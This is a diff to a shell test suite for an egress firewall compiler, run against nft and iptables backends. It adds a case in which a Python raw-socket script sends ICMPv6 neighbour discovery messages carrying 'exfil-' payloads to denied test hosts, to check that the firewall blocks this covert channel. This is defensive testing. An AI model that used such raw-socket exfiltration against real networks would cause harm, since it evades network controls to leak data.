@@ -19,6 +19,11 @@
 #   dns      under 'resolver', DNS straight to the upstream resolver - as
 #            nobody, as root, over TCP, over QUIC (udp/853) - is blocked:
 #            only the forwarder's user reaches it
+#   nd       neighbour discovery messages (the hop limit of 255 they need)
+#            from a raw socket, carrying data to a denied host: off the
+#            link, on it, and to all nodes of the link; the kernel's own
+#            neighbour discovery, and a router solicitation from user
+#            space (systemd-networkd sends its own), must still work
 #
 #   PROBE=build/tests/probe tests/adversarial.sh EGRESSC
 set -u
@@ -234,6 +239,68 @@ except OSError: pass' 2>/dev/null
 	wait $receiver
 	expect "$backend: srh: the denied host gets nothing ($(cat "$tmp/srh.got"))" \
 		[ "$(cat "$tmp/srh.got")" = nothing ]
+	netns_cleanup
+done
+
+# nd: a process with a raw ICMPv6 socket sends neighbour solicitations and
+# advertisements with data in them, hop limit 255, to denied hosts. The
+# kernel's own neighbour discovery needs no user's packet to reach them.
+cat >"$tmp/nd.eg" <<'EOF'
+essentials off
+default deny
+deny 2001:db8::2
+deny 2001:db8:9::9
+allow 2001:db8:10::10
+EOF
+"$egressc" -O "$tmp/nd" "$tmp/nd.eg" || bad "nd: compile"
+for backend in nft iptables; do
+	netns_setup || exit 1
+	netns_add_server_addr 2001:db8:10::10
+	netns_add_server_addr 2001:db8:9::9
+	netns_serve 443
+	expect "$backend: nd: apply" in_client "$egressc" apply --backend "$backend" \
+		--hosts-path "$tmp/hosts" --dnsmasq-path "$tmp/dnsmasq.conf" "$tmp/nd" >/dev/null
+	# What reaches the server's ICMPv6 raw socket, whatever its address.
+	ip netns exec "$NS_SERVER" /usr/bin/python3 -c '
+import socket, time
+s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
+s.settimeout(0.2)
+end = time.time() + 2.5
+while time.time() < end:
+    try: data = s.recv(2000)
+    except OSError: continue
+    if b"exfil-" in data: print(data[data.index(b"exfil-"):].decode(errors="replace"))' \
+		>"$tmp/nd.got" 2>&1 &
+	receiver=$!
+	sleep 0.3
+	# Type 135 solicits, 136 advertises: an 8-byte header, the target,
+	# then the data. To the off-link denied host, the on-link one, and
+	# the all-nodes group (which the on-link host hears too).
+	in_client /usr/bin/python3 -c '
+import socket, struct
+s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
+s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
+s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
+idx = socket.if_nametoindex("eth0")
+target = socket.inet_pton(socket.AF_INET6, "2001:db8::2")
+for kind, dst in ((135, "2001:db8:9::9"), (136, "2001:db8:9::9"),
+                  (135, "2001:db8::2"), (136, "2001:db8::2"), (136, "ff02::1")):
+    msg = struct.pack("!BBHI", kind, 0, 0, 0) + target + b"exfil-%d-%s" % (kind, dst.encode())
+    try: s.sendto(msg, (dst, 0, 0, idx if dst.startswith("ff") else 0))
+    except OSError: pass
+# A router solicitation, as systemd-networkd sends one from user space.
+try: print("sent", s.sendto(struct.pack("!BBHI", 133, 0, 0, 0), ("ff02::2", 0, 0, idx)))
+except OSError as e: print(e)' >"$tmp/nd.rs" 2>&1
+	wait $receiver
+	expect "$backend: nd: no data reaches a denied host ($(tr '\n' ' ' <"$tmp/nd.got"))" \
+		[ ! -s "$tmp/nd.got" ]
+	expect "$backend: nd: a user's router solicitation goes out ($(cat "$tmp/nd.rs"))" \
+		[ "$(cat "$tmp/nd.rs")" = "sent 8" ]
+	# The kernel resolves its neighbours anew, and the allowed host
+	# beyond the (denied) gateway is still reached.
+	in_client ip -6 neigh flush dev eth0
+	expect "$backend: nd: the kernel's neighbour discovery works" \
+		[ "$(probe 2001:db8:10::10 443)" = connected ]
 	netns_cleanup
 done
 
